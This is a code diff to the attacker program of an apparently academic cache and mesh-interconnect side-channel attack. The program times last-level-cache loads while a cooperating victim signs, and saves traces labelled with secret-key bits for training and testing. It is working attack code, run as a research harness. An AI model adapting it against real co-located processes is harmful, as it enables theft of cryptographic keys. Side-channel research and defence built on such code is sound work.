@@ -1,17 +1,48 @@
 #include "../util/util.h"
 #include "scutil/dont-mesh-around.h"
 #include "../util/machine_const.h"
+#include "../util/topology.h"
+#include "../util/sample_guard.h"
+#include "../util/freq_tag.h"
+#include "../util/host_profile.h"
+#ifdef USE_RDPMC
+#include "../util/timing.h"
+#endif
 
 #include <string.h>
 #include <x86intrin.h>
 
 #define BUF_SIZE 400 * 1024UL * 1024 /* Buffer Size -> 400*1MB */
+#ifdef MULTI_ITERATION
+#define MAXSAMPLES 2000000 /* A trace spans all the iterations from the one requested to the end of the loop */
+#else
 #define MAXSAMPLES 100000
+#endif
+#if MAXSAMPLES / FREQ_BLOCK_SAMPLES >= FREQ_MAX_BLOCKS
+#error "FREQ_MAX_BLOCKS is too small to tag a trace of MAXSAMPLES samples"
+#endif
+#define MAX_RETAKES 10 /* Consecutive re-takes before keeping (and tagging) an interrupted trace */
+#define VICTIM_TIMEOUT_CYCLES 10000000000UL /* Time given to the victim to reach the iteration of interest */
+
+// Number of monitoring sets (groups) probed alternately. The groups are on
+// the same slice but on different L2 sets: while one group is timed, the EV of
+// the next one is accessed (untimed) to evict it from the private caches, so
+// the traces are not limited to one pass over the monitoring set. The EV is
+// accessed with the same pattern as access_ev, split into steps: a group and
+// its EV have the same number of lines, so EV_STEPS_PER_SAMPLE = EV_PASSES
+// steps after each sample finish the EV_PASSES passes by the end of the group.
+#define MS_GROUPS 2
+#define EV_PASSES 4			  /* Passes of access_ev over an EV */
+#define EV_STEPS_PER_SAMPLE 4 /* access_ev steps on the next group after each sample */
+
+// Comment out to keep the traces hit by interrupts (tagged in a .gaps file)
+// instead of re-taking them
+#define RETAKE_ON_GAP
 
 static inline void access_ev(struct Node *ev)
 {
 	// Access EV multiple times (linear access pattern)
-	for (int j = 0; j < 4; j++) {
+	for (int j = 0; j < EV_PASSES; j++) {
 		struct Node *curr_node = ev;
 		while (curr_node && curr_node->next && curr_node->next->next) {
 			maccess(curr_node->address);
@@ -25,14 +56,85 @@ static inline void access_ev(struct Node *ev)
 	}
 }
 
+// access_ev split into steps, to spread it over the samples of a group
+struct ev_cursor {
+	struct Node *ev;
+	struct Node *node;
+	int pass;
+};
+
+static inline void ev_cursor_reset(struct ev_cursor *cursor, struct Node *ev)
+{
+	cursor->ev = cursor->node = ev;
+	cursor->pass = 0;
+}
+
+/*
+ * Does one step of the access pattern of access_ev (nothing once the
+ * EV_PASSES passes are done).
+ */
+static inline void ev_cursor_step(struct ev_cursor *cursor)
+{
+	struct Node *curr_node = cursor->node;
+	if (cursor->pass >= EV_PASSES) {
+		return;
+	}
+	maccess(curr_node->address);
+	maccess(curr_node->next->address);
+	maccess(curr_node->next->next->address);
+	maccess(curr_node->address);
+	maccess(curr_node->next->address);
+	maccess(curr_node->next->next->address);
+	cursor->node = curr_node->next;
+	if (cursor->node->next->next == NULL) {
+		cursor->node = cursor->ev;
+		cursor->pass++;
+	}
+}
+
+/*
+ * Measures the cooldown between two traces (see dont-mesh-around.h): has the
+ * victim run COOLDOWN_ROUNDS times and, each time it is back at its wait loop,
+ * probes the monitoring sets like the traces do for COOLDOWN_MAX_CYCLES.
+ */
+static void measure_cooldown(struct cooldown *cool, struct handshake *hs, int victim_iteration_no,
+							 struct Node **monitoring_set, struct Node **ev)
+{
+	for (int round = 0; round < COOLDOWN_ROUNDS; round++) {
+		hs->share->sign_requested = victim_iteration_no;
+		if (!handshake_wait_start(hs, VICTIM_TIMEOUT_CYCLES) || !handshake_wait_end(hs, VICTIM_TIMEOUT_CYCLES)) {
+			fprintf(stderr, "Missed run while measuring the cooldown\n");
+		}
+		cooldown_start(cool, hs);
+		if (!cool->tracked) {
+			return;
+		}
+
+		while (__rdtsc() - cool->idle_at < COOLDOWN_MAX_CYCLES) {
+			for (int g = 0; g < MS_GROUPS; g++) {
+				struct Node *curr_node = monitoring_set[g];
+				while (curr_node != NULL) {
+					uint32_t latency = time_load(curr_node->address);
+					cooldown_record(cool, __rdtsc(), latency);
+					curr_node = curr_node->next;
+				}
+
+				_mm_lfence();
+				access_ev(ev[g]);
+			}
+		}
+	}
+	cooldown_from_decay(cool);
+}
+
 int main(int argc, char **argv)
 {
 	int i, j;
 
 	// Check arguments
-	if (argc != 5) {
-		fprintf(stderr, "Wrong Input! Enter desired core ID, slice ID, repetitions, and iteration of interest!\n");
-		fprintf(stderr, "Enter: %s <core_ID> <slice_ID> <repetitions> <iteration_of_interest>\n", argv[0]);
+	if (argc != 5 && argc != 6) {
+		fprintf(stderr, "Wrong Input! Enter desired core ID, slice ID, repetitions, iteration of interest and (optionally) train or test!\n");
+		fprintf(stderr, "Enter: %s <core_ID> <slice_ID> <repetitions> <iteration_of_interest> [train|test]\n", argv[0]);
 		exit(1);
 	}
 
@@ -71,6 +173,18 @@ int main(int argc, char **argv)
 		exit(1);
 	}
 
+	// Parse mode: the training traces use a new randomized key per
+	// repetition, the test traces all use the same one
+	int test_mode = 0;
+	if (argc == 6) {
+		if (strcmp(argv[5], "test") == 0) {
+			test_mode = 1;
+		} else if (strcmp(argv[5], "train") != 0) {
+			fprintf(stderr, "Wrong mode! mode should be train or test!\n");
+			exit(1);
+		}
+	}
+
 	// Create file shared with victim
 	volatile struct sharestruct *sharestruct = get_sharestruct();
 
@@ -79,9 +193,40 @@ int main(int argc, char **argv)
 	// This time we do not set the priority like in the RE because
 	// doing so would use root and we want our actual attack
 	// to be realistic for a user space process
-	int cpu = cha_id_to_cpu[core_ID];
+	int cpu = cha_to_cpu(core_ID);
 	pin_cpu(cpu);
 
+#ifdef USE_RDPMC
+	// Time the loads with the backend and event picked by timing-benchmark for
+	// this host: a core PMU counter, or the TSC if it separated the LLC hits
+	// best there or if rdpmc is not available
+	struct timing timing = {.backend = TIMING_TSC, .fd = -1};
+	if (host_profile_get_int_or(HOST_PROFILE_TIMING, "backend", TIMING_RDPMC) == TIMING_RDPMC) {
+		timing_init(&timing, host_profile_get_int_or(HOST_PROFILE_TIMING, "event", TIMING_EVENT_CYCLES));
+	}
+	fprintf(stderr, "Timing backend: %s\n", timing_name(&timing));
+#endif
+
+	// Tag the samples with the core and uncore frequencies, so that the
+	// traces can be normalized when the frequencies are not pinned
+	struct freq_tag freq;
+	freq_tag_init(&freq, cpu);
+#ifdef USE_RDPMC
+	if (timing.backend == TIMING_RDPMC) {
+		freq.clock = FREQ_CLOCK_CORE;
+	}
+#endif
+	fprintf(stderr, "Frequency tagging: %s\n", freq_tag_name(&freq));
+
+	// Wait for the victim without spinning on the shared struct
+	struct handshake hs;
+	handshake_init(&hs, sharestruct);
+	if (handshake_measure_wake_latency(&hs, HANDSHAKE_WAKE_ROUNDS) > 0) {
+		fprintf(stderr, "Handshake: %s (wake-up latency %" PRIu64 " cycles)\n", handshake_name(&hs), hs.wake_latency);
+	} else {
+		fprintf(stderr, "Handshake: %s\n", handshake_name(&hs));
+	}
+
 	//////////////////////////////////////////////////////////////////////
 	// Set up memory
 	//////////////////////////////////////////////////////////////////////
@@ -99,148 +244,198 @@ int main(int argc, char **argv)
 
 	// Init variables for MS and EV
 	uint64_t index1, index2, offset;
-	struct Node *monitoring_set = NULL;
+	struct Node *monitoring_set[MS_GROUPS] = {NULL};
 	struct Node *curr_node = NULL;
 	int monitoring_set_size = 16;
 	int total_sets = 32; // FIXME: may need more for ECDSA
-	struct Node *ev = NULL;
+	struct Node *ev[MS_GROUPS] = {NULL};
 	int ev_set = set_ID;
 	int ev_size = 16;
 	int ev_slice = core_ID;
 
-	// Prepare monitoring set
-	for (int k = 0; k < total_sets; k++, set_ID += 2) {
-		// Find first address in our desired slice and given set
-		offset = find_next_address_on_slice_and_set(buffer, slice_ID, set_ID);
+	// Prepare the groups (each one on the next total_sets pairs of LLC sets)
+	for (int g = 0; g < MS_GROUPS; g++) {
+		// Prepare monitoring set
+		for (int k = 0; k < total_sets; k++, set_ID += 2) {
+			// Find first address in our desired slice and given set
+			offset = find_next_address_on_slice_and_set(buffer, slice_ID, set_ID);
 
-		// Save this address in the monitoring set
-		append_string_to_linked_list(&monitoring_set, (void *)((uint64_t)buffer + offset));
+			// Save this address in the monitoring set
+			append_string_to_linked_list(&monitoring_set[g], (void *)((uint64_t)buffer + offset));
 
-		if (k == 0) {
-			curr_node = monitoring_set;
-		} else {
-			curr_node = curr_node->next;
-		}
+			if (k == 0) {
+				curr_node = monitoring_set[g];
+			} else {
+				curr_node = curr_node->next;
+			}
+
+			// Get the L1 and L2 cache set indexes of the monitoring set
+			index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
+			index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
+
+			// Find next addresses which are residing in the desired slice and the same sets in L2/L1
+			// These addresses will distribute across 2 LLC sets
+			for (i = 1; i < monitoring_set_size; i++) {
+				// offset = 2 * 1024 * 1024; // skip to an next address in the next page
+				offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
+				while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
+					   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
+					   slice_ID != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
+					offset += L2_INDEX_STRIDE;
+				}
 
-		// Get the L1 and L2 cache set indexes of the monitoring set
-		index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
-		index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
-
-		// Find next addresses which are residing in the desired slice and the same sets in L2/L1
-		// These addresses will distribute across 2 LLC sets
-		for (i = 1; i < monitoring_set_size; i++) {
-			// offset = 2 * 1024 * 1024; // skip to an next address in the next page
-			offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
-			while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
-				   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
-				   slice_ID != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
-				offset += L2_INDEX_STRIDE;
+				append_string_to_linked_list(&monitoring_set[g], (void *)((uint64_t)curr_node->address + offset));
+				curr_node = curr_node->next;
 			}
+		}
 
-			append_string_to_linked_list(&monitoring_set, (void *)((uint64_t)curr_node->address + offset));
+		// Flush monitoring set
+		curr_node = monitoring_set[g];
+		while (curr_node != NULL) {
+			_mm_clflush(curr_node->address);
 			curr_node = curr_node->next;
 		}
-	}
 
-	// Flush monitoring set
-	curr_node = monitoring_set;
-	while (curr_node != NULL) {
-		_mm_clflush(curr_node->address);
-		curr_node = curr_node->next;
-	}
+		// Prepare EV (local slice)
+		for (int k = 0; k < total_sets; k++, ev_set += 2) {
 
-	// Prepare EV (local slice)
-	for (int k = 0; k < total_sets; k++, ev_set += 2) {
+			// Find first address in our desired slice and given set
+			offset = find_next_address_on_slice_and_set(buffer, ev_slice, ev_set);
 
-		// Find first address in our desired slice and given set
-		offset = find_next_address_on_slice_and_set(buffer, ev_slice, ev_set);
+			// Save this address in the ev set
+			append_string_to_linked_list(&ev[g], (void *)((uint64_t)buffer + offset));
 
-		// Save this address in the ev set
-		append_string_to_linked_list(&ev, (void *)((uint64_t)buffer + offset));
+			if (k == 0) {
+				curr_node = ev[g];
+			} else {
+				curr_node = curr_node->next;
+			}
 
-		if (k == 0) {
-			curr_node = ev;
-		} else {
-			curr_node = curr_node->next;
-		}
+			// Get the L1, L2 and L3 cache set indexes of the EV set
+			index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
+			index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
+
+			// Find next addresses which are residing in the desired slice and the same sets in L2/L1
+			// These addresses will distribute across 2 LLC sets
+			for (i = 1; i < ev_size; i++) {
+				offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
+				while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
+					   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
+					   ev_slice != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
+					offset += L2_INDEX_STRIDE;
+				}
 
-		// Get the L1, L2 and L3 cache set indexes of the EV set
-		index2 = get_cache_set_index((uint64_t)curr_node->address, 2);
-		index1 = get_cache_set_index((uint64_t)curr_node->address, 1);
-
-		// Find next addresses which are residing in the desired slice and the same sets in L2/L1
-		// These addresses will distribute across 2 LLC sets
-		for (i = 1; i < ev_size; i++) {
-			offset = L2_INDEX_STRIDE; // skip to the next address with the same L2 cache set index
-			while (index1 != get_cache_set_index((uint64_t)curr_node->address + offset, 1) ||
-				   index2 != get_cache_set_index((uint64_t)curr_node->address + offset, 2) ||
-				   ev_slice != get_cache_slice_index((void *)((uint64_t)curr_node->address + offset))) {
-				offset += L2_INDEX_STRIDE;
+				append_string_to_linked_list(&ev[g], (void *)((uint64_t)curr_node->address + offset));
+				curr_node = curr_node->next;
 			}
+		}
 
-			append_string_to_linked_list(&ev, (void *)((uint64_t)curr_node->address + offset));
+		// Flush ev set
+		curr_node = ev[g];
+		while (curr_node != NULL) {
+			_mm_clflush(curr_node->address);
 			curr_node = curr_node->next;
 		}
 	}
 
-	// Flush ev set
-	curr_node = ev;
-	while (curr_node != NULL) {
-		_mm_clflush(curr_node->address);
-		curr_node = curr_node->next;
-	}
-
 	//////////////////////////////////////////////////////////////////////
 	// Done setting up memory
 	//////////////////////////////////////////////////////////////////////
 
-	// Prepare samples array
+	// Prepare samples array (and their start times, to drop the samples
+	// taken after the end of the iteration of interest)
 	uint32_t *samples = (uint32_t *)malloc(sizeof(*samples) * MAXSAMPLES);
+	uint32_t *starts = (uint32_t *)malloc(sizeof(*starts) * MAXSAMPLES);
+
+	// Prepare the gap detection
+	static struct gap_log gaps;
+	static struct irq_snapshot irqs_before, irqs_after;
+	static struct freq_log freqs;
+	gap_log_init(&gaps, gap_bound_from_profile(), GAP_SETTLE_SAMPLES);
+	int retakes = 0;
 	fprintf(stderr, "READY\n");
 
 	// Warm up
-	for (i = 0; i < 2000000; i++) {
-		curr_node = monitoring_set;
-		while (curr_node != NULL) {
-			maccess(curr_node->address);
-			curr_node = curr_node->next;
-		}
+	for (i = 0; i < 2000000 / MS_GROUPS; i++) {
+		for (int g = 0; g < MS_GROUPS; g++) {
+			curr_node = monitoring_set[g];
+			while (curr_node != NULL) {
+				maccess(curr_node->address);
+				curr_node = curr_node->next;
+			}
 
-		// Evict from the private caches
-		_mm_lfence();
-		access_ev(ev);
+			// Evict from the private caches
+			_mm_lfence();
+			access_ev(ev[g]);
+		}
 	}
 
 	//////////////////////////////////////////////////////////////////////
 	// Ready to go
 	//////////////////////////////////////////////////////////////////////
 
-	// Start with a randomized key
+	// Start with a randomized key (the only one in test mode)
 	sharestruct->use_randomized_key = 1;
 
+	// Capture one iteration per request, or all of them from the requested
+	// one on, with the victim's iteration markers
+#ifdef MULTI_ITERATION
+	sharestruct->capture_iterations = 1;
+#else
+	sharestruct->capture_iterations = 0;
+#endif
+
+	// Wait between two traces until the noise of the previous victim run has
+	// decayed (the cooldown_cycles of the latency profile, or measured now and
+	// written to the profile for the next runs)
+	static struct cooldown cool;
+	int cooldown_cycles;
+	if (host_profile_get_int(HOST_PROFILE_LATENCY, "cooldown_cycles", &cooldown_cycles) == 0 && cooldown_cycles >= 0) {
+		cooldown_init(&cool, cooldown_cycles);
+	} else {
+		cooldown_init(&cool, COOLDOWN_MAX_CYCLES);
+		measure_cooldown(&cool, &hs, victim_iteration_no, monitoring_set, ev);
+		if (cool.tracked && host_profile_set_int(HOST_PROFILE_LATENCY, "cooldown_cycles", (int)cool.cycles) != 0) {
+			fprintf(stderr, "Warning: could not write the cooldown to the latency profile\n");
+		}
+	}
+	cooldown_start(&cool, &hs);
+	if (cool.tracked) {
+		fprintf(stderr, "Cooldown: %" PRIu64 " cycles\n", cool.cycles);
+	} else {
+		fprintf(stderr, "Cooldown: %d cycles (the victim does not publish its state)\n", COOLDOWN_MAX_CYCLES);
+	}
+
 	// Collect data
-	uint8_t actual_bit;
 	uint8_t prev_bit = 2;
 	int rept_index;
+	int irqs_ok = irq_snapshot_take(cpu, &irqs_before) == 0;
 	for (rept_index = 0; rept_index < repetitions; rept_index++) {
 		// Make it so that the victim switches to a randomized key for this rept
-		// FIXME: remove to use the same (default) key always
-		sharestruct->use_randomized_key = 1;
+		if (!test_mode) {
+			sharestruct->use_randomized_key = 1;
+		}
 
 		// Prepare
-		uint8_t active = 0;
-		uint32_t waiting_for_victim = 0;
+		uint8_t interrupted = 0;
+		uint8_t ended = 0;
+		gap_log_reset(&gaps);
+
+		// Read addresses from the monitoring sets into cache
+		// and evict them from the private caches
+		for (int g = 0; g < MS_GROUPS; g++) {
+			curr_node = monitoring_set[g];
+			while (curr_node != NULL) {
+				maccess(curr_node->address);
+				curr_node = curr_node->next;
+			}
 
-		// Read addresses from monitoring set into cache
-		curr_node = monitoring_set;
-		while (curr_node != NULL) {
-			maccess(curr_node->address);
-			curr_node = curr_node->next;
+			_mm_lfence();
+			access_ev(ev[g]);
 		}
 
-		// Evict from the private caches
-		_mm_lfence();
-		access_ev(ev);
+		// Wait for the rest of the cooldown
+		cooldown_wait(&cool);
 
 		// Double-check that the victim has not started yet
 		if (sharestruct->iteration_of_interest_running) {
@@ -250,96 +445,193 @@ int main(int argc, char **argv)
 		// Request the victim to sign
 		sharestruct->sign_requested = victim_iteration_no;
 
+		// Wait for the victim's iteration of interest to start
+		if (!handshake_wait_start(&hs, VICTIM_TIMEOUT_CYCLES)) {
+			fprintf(stderr, "Missed run; %d\n", rept_index);
+			rept_index--;
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+		freq_log_start(&freqs, &freq);
+		gap_log_arm(&gaps, (uint32_t)get_time());
+
 		// Start monitoring loop
-		curr_node = monitoring_set;
+		int group = 0, next_group = 1 % MS_GROUPS;
+		struct ev_cursor ev_cursor;
+		ev_cursor_reset(&ev_cursor, ev[next_group]);
+		uint32_t last_start = (uint32_t)__rdtsc();
+		curr_node = monitoring_set[group];
 		for (i = 0; i < MAXSAMPLES; i++) {
 
-			// Check if the victim's iteration of interest ended
-			if (active) {
-				if (!sharestruct->iteration_of_interest_running) {
-					break;
-				}
-			}
-
-			// Check if the victim's iteration of interest started
-			if (!active) {
-				i = 0;
-				if (sharestruct->iteration_of_interest_running) {
-					active = 1;
-				} else {
-					waiting_for_victim++;
-					if (waiting_for_victim == UINT32_MAX) {
-						fprintf(stderr, "Missed run; %d\n", rept_index);
-						rept_index--;
-						break;
-					}
-					continue;
-				}
+			// Check if the victim's iteration of interest ended (only
+			// every few samples, see dont-mesh-around.h)
+			if (handshake_end_due(&hs, i, last_start) && !handshake_running(&hs)) {
+				ended = 1;
+				break;
 			}
 
-			if ((i != 0) && ((i % (total_sets * monitoring_set_size)) == 0)) {
-				// Skip when we had to access the EV
-				waiting_for_victim = UINT32_MAX;
-				break;
+			// Tag the previous block with the core frequency (rdpmc only,
+			// so no syscall is hidden from the gap detection)
+			if (i > 0 && i % FREQ_BLOCK_SAMPLES == 0) {
+				freq_log_mark(&freqs, i);
 			}
 
+			uint32_t start;
+#ifdef USE_RDPMC
+			// The PMU counters do not count while we are interrupted,
+			// so the gap detection still uses the TSC
+			start = (uint32_t)__rdtsc();
+			samples[i] = timing_load(&timing, curr_node->address);
+#else
 			asm volatile(
 				".align 32\n\t"
 				"lfence\n\t"
 				"rdtsc\n\t"				/* eax = TSC (timestamp counter) */
 				"movl %%eax, %%r8d\n\t" /* r8d = eax */
-				"movq (%1), %%r9\n\t"	/* r9 = *(current->address); LOAD */
+				"movq (%2), %%r9\n\t"	/* r9 = *(current->address); LOAD */
 				"rdtscp\n\t"			/* eax = TSC (timestamp counter) */
 				"sub %%r8d, %%eax\n\t"	/* eax = eax - r8d; get timing difference between the second timestamp and the first one */
 				"movl %%eax, %0\n\t"	/* samples[j++] = eax */
+				"movl %%r8d, %1\n\t"	/* start = r8d */
 
-				: "=rm"(samples[i]) /* output */
+				: "=rm"(samples[i]), "=rm"(start) /* output */
 				: "r"(curr_node->address)
 				: "rax", "rcx", "rdx", "r8", "r9", "memory");
+#endif
 
+			starts[i] = last_start = start;
+
+			// Check if we were interrupted since the previous sample
+			if (gap_check(&gaps, i, start)) {
+#ifdef RETAKE_ON_GAP
+				if (retakes < MAX_RETAKES) {
+					interrupted = 1;
+					break;
+				}
+#endif
+			}
+
+			// Evict the next group from the private caches (untimed,
+			// one step of access_ev at a time)
+			for (j = 0; j < EV_STEPS_PER_SAMPLE; j++) {
+				ev_cursor_step(&ev_cursor);
+			}
+
+			// Switch to the next group at the end of this one
 			curr_node = curr_node->next;
+			if (curr_node == NULL) {
+				group = next_group;
+				next_group = (group + 1) % MS_GROUPS;
+				curr_node = monitoring_set[group];
+				ev_cursor_reset(&ev_cursor, ev[next_group]);
+			}
+		}
+
+		// Drop the samples taken after the end of the iteration
+		if (ended) {
+			i = handshake_trim(&hs, starts, i);
 		}
+		freq_log_finish(&freqs, i);
+
+		// Re-take the trace if it was interrupted
+		if (interrupted) {
+			fprintf(stderr, "Interrupted run; %d\n", rept_index);
+			rept_index--;
+			retakes++;
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+		retakes = 0;
 
 		// Check that the victim's iteration of interest is actually ended
-		if (waiting_for_victim == UINT32_MAX || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
-			// Wait some time before next trace
-			wait_cycles(150000000);
+		if (!ended || sharestruct->iteration_of_interest_running || i >= MAXSAMPLES) {
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
 			continue;
 		}
 
+#ifdef MULTI_ITERATION
+		// Store the iteration markers next to the trace (the ground truth
+		// and the boundaries of each iteration)
+		char output_data_fn[64];
+		sprintf(output_data_fn, "./out-multi-iteration/%04d_data_%04d.out", rept_index, victim_iteration_no);
+		char output_markers_fn[72];
+		sprintf(output_markers_fn, "%s.markers", output_data_fn);
+		if (marker_ring_write(sharestruct, output_markers_fn) < 0) {
+			fprintf(stderr, "Marker ring overflow; %d\n", rept_index);
+
+			// Wait for the victim to be back at its wait loop
+			cooldown_start(&cool, &hs);
+			continue;
+		}
+#else
 		// Get the actual bit (ground truth)
-		actual_bit = sharestruct->bit_of_the_iteration_of_interest;
+		uint8_t actual_bit = sharestruct->bit_of_the_iteration_of_interest;
 
 		// Prepare data output file
 		char output_data_fn[64];
 		sprintf(output_data_fn, "./out/%04d_data_%04d_%" PRIu8 ".out", rept_index, victim_iteration_no, actual_bit);
+#endif
 		FILE *output_data;
 		if (!(output_data = fopen(output_data_fn, "w"))) {
 			perror("fopen");
 			exit(1);
 		}
 
-		// Store the samples to disk
+		// Store the samples to disk (with their start times to segment
+		// them with the markers)
 		int trace_length = i;
 		for (i = 0; i < trace_length; i++) {
+#ifdef MULTI_ITERATION
+			fprintf(output_data, "%" PRIu32 " %" PRIu32 "\n", starts[i], samples[i]);
+#else
 			fprintf(output_data, "%" PRIu32 "\n", samples[i]);
+#endif
 		}
 
-		// Wait some time before next trace
-		wait_cycles(150000000);
+		// Store the samples hit by interrupts (if any) next to the trace
+		if (gaps.nr_ranges > 0) {
+			char output_gaps_fn[72];
+			sprintf(output_gaps_fn, "%s.gaps", output_data_fn);
+			gap_log_write(&gaps, output_gaps_fn, NULL, NULL);
+		}
+
+		// Store the frequencies of the sample blocks next to the trace
+		char output_freq_fn[72];
+		sprintf(output_freq_fn, "%s" FREQ_SUFFIX, output_data_fn);
+		freq_log_write(&freqs, output_freq_fn);
+
+		// Wait for the victim to be back at its wait loop
+		cooldown_start(&cool, &hs);
 
 		// Close the files for this trace
 		fclose(output_data);
 	}
 
+	// Report the interrupts received during the collection
+	if (irqs_ok && irq_snapshot_take(cpu, &irqs_after) == 0) {
+		irq_snapshot_report(stderr, "", &irqs_before, &irqs_after);
+	}
+
 	// Free the buffers and file
+#ifdef USE_RDPMC
+	timing_close(&timing);
+#endif
+	freq_tag_close(&freq);
 	munmap(buffer, BUF_SIZE);
 	free(samples);
+	free(starts);
 
 	// Clean up lists
 	struct Node *tmp = NULL;
-	for (curr_node = monitoring_set; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
-	for (curr_node = ev; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
+	for (int g = 0; g < MS_GROUPS; g++) {
+		for (curr_node = monitoring_set[g]; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
+		for (curr_node = ev[g]; curr_node != NULL; tmp = curr_node, curr_node = curr_node->next, free(tmp));
+	}
 
 	return 0;
 }